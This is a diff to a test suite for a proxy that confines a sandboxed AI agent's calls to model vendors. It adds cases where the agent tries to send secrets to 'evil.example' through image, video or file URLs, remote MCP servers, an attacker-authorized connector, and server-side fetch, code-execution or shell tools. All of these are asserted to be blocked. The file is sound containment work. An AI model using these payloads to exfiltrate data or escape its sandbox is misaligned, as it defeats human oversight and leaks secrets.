@@ -19,6 +19,7 @@ from structlog.typing import EventDict
 from kingdom.bus.logs import configure_logs
 from kingdom.soldiers.sandbox.gate import Gate, VoiceHandler
 from kingdom.soldiers.sandbox.vendors import Upstream, Vendor
+from tests.patience import PATIENCE_SECONDS
 
 KEY = "sk-the-real-one"
 HOST = "http://gate"
@@ -175,7 +176,19 @@ async def raw(gate: Gate, *head: str, body: bytes = b"") -> bytes:
         {"input": [{"content": [{"type": "input_image", "image_url": "https://evil.example/?secret"}]}]},
         {"messages": [{"content": [{"type": "image_url", "image_url": {"url": "https://evil.example/?secret"}}]}]},
         {"contents": [{"parts": [{"fileData": {"fileUri": "https://evil.example/?secret"}}]}]},
-        {"tools": [{"urlContext": {}, "url_context": {"a": 1}}]},
+        *({"tools": [{name: {}}]} for name in ("urlContext", "url_context", "codeExecution", "code_execution")),
+        {"tools": [{"mcpServers": [{"streamableHttpTransport": {"url": "https://evil.example"}}]}]},
+        {"tools": [{"type": "mcp", "connector_id": "connector_dropbox", "authorization": "of the attacker"}]},
+        {"tools": [{"type": "web_fetch_20260101", "name": "web_fetch", "content": ""}]},
+        {"tools": [{"type": "shell", "environment": {"type": "container_auto"}}]},
+        {"type": "tool_use", "input": [{"content": [{"type": "input_image", "image_url": "https://evil.example"}]}]},
+        {"messages": [{"content": [{"type": "video_url", "video_url": {"url": "https://evil.example/?secret"}}]}]},
+        {"messages": [{"content": [{"type": "file", "file": {"file_data": "https://evil.example/?secret"}}]}]},
+        {
+            "contents": [
+                {"parts": [{"functionResponse": {"parts": [{"fileData": {"fileUri": "https://evil.example"}}]}}]}
+            ]
+        },
     ],
 )
 async def test_a_vendor_is_not_sent_to_where_the_agent_wants(
@@ -186,15 +199,28 @@ async def test_a_vendor_is_not_sent_to_where_the_agent_wants(
     assert model.asked == []
 
 
-async def test_what_an_agent_gives_to_its_own_tools_is_let_through(tmp_path: Path, model: Model) -> None:
+async def test_what_an_agent_gives_to_its_tools_or_gets_is_let_through(tmp_path: Path, model: Model) -> None:
     image = {"type": "image_url", "image_url": {"url": "data:image/png;base64,AA=="}}
     call = {
         "type": "tool_use",
         "name": "fetch",
         "input": {"type": "url", "url": "https://a.example", "server_url": "b"},
     }
-    tool = {"name": "t", "input_schema": {"properties": {"mcp_servers": {"type": "string"}}}}
-    document = {"messages": [{"content": [image, call]}], "tools": [tool]}
+    schema = {"properties": {"mcp_servers": {"type": "string"}, "code_execution": {"type": ["string", "null"]}}}
+    tools = [{"name": "t", "input_schema": schema}, {"functionDeclarations": [{"parametersJsonSchema": schema}]}]
+    taken = [
+        {"type": "function_call_output", "output": "https://a.example"},
+        {"type": "local_shell_call", "action": {"command": ["env"], "env": {"DATABASE_URL": "postgresql://a.example"}}},
+        {"type": "web_search_call", "action": {"type": "open_page", "url": "https://a.example"}},
+        {"type": "web_search_tool_result", "content": [{"type": "web_search_result", "url": "https://a.example"}]},
+        {"type": "output_text", "annotations": [{"type": "url_citation", "url": "https://a.example"}]},
+        {"type": "file", "file": {"file_id": "file-1", "file_data": "JVBERi0/"}},
+        {"functionCall": {"args": {"image_url": "https://a.example"}}},
+        {"client_metadata": {"repository_url": "https://a.example"}},
+        {"functionResponse": {"response": {"file_uri": "https://a.example", "url_context": {}}}},
+    ]
+    answer_format = {"format": {"type": "json_schema", "schema": schema}}
+    document = {"messages": [{"content": [image, call, *taken]}], "tools": tools, "text": answer_format}
     async with through(tmp_path, model) as client, client.post("/v1/messages", json=document) as answer:
         assert answer.status == 200
 
@@ -248,7 +274,7 @@ async def test_a_model_is_left_when_the_agent_leaves(tmp_path: Path, model: Mode
     async with through(tmp_path, model) as client:
         async with client.post("/v1/messages", json={}, headers=headers) as answer:
             assert await answer.content.readline() == b"first\n"
-        async with asyncio.timeout(30):
+        async with asyncio.timeout(PATIENCE_SECONDS):
             await model.left.wait()
 
 
@@ -263,6 +289,16 @@ async def test_an_error_of_the_vendor_is_told_but_not_the_key_that_it_quotes(
         assert KEY not in await answer.text()
         assert "set-cookie" not in answer.headers
         assert status == 401 or answer.headers["retry-after"] == "7"
+
+
+async def test_a_long_error_of_the_vendor_is_told_to_its_end(tmp_path: Path, model: Model) -> None:
+    filler = "x" * 900_000
+    model.status, model.words = 400, f"{filler} bad key {KEY}; resets at 15:00".encode()
+    async with through(tmp_path, model) as client, client.post("/v1/messages", json={}) as answer:
+        assert (await answer.text()).removeprefix(filler) == " bad key [the key of the house]; resets at 15:00"
+    model.words *= 2
+    async with through(tmp_path, model) as client, client.post("/v1/messages", json={}) as answer:
+        assert (answer.status, (await answer.json())["error"]["type"]) == (400, "api_error")
 
 
 async def test_a_redirect_is_not_followed(tmp_path: Path, model: Model) -> None:
@@ -311,7 +347,7 @@ async def test_on_loopback_only_who_knows_the_secret_is_heard(tmp_path: Path, mo
 async def test_an_agent_cannot_use_up_all_connections(tmp_path: Path, model: Model) -> None:
     async with Gate(tmp_path / "gate", [Upstream(vendor=Vendor.ANTHROPIC, url=model.url, key=KEY)]) as gate:
         opened = [await asyncio.open_unix_connection(gate.socket) for _ in range(140)]
-        assert await asyncio.wait_for(opened[-1][0].read(), 30) == b""
+        assert await asyncio.wait_for(opened[-1][0].read(), PATIENCE_SECONDS) == b""
         for _, writer in opened:
             writer.close()
 
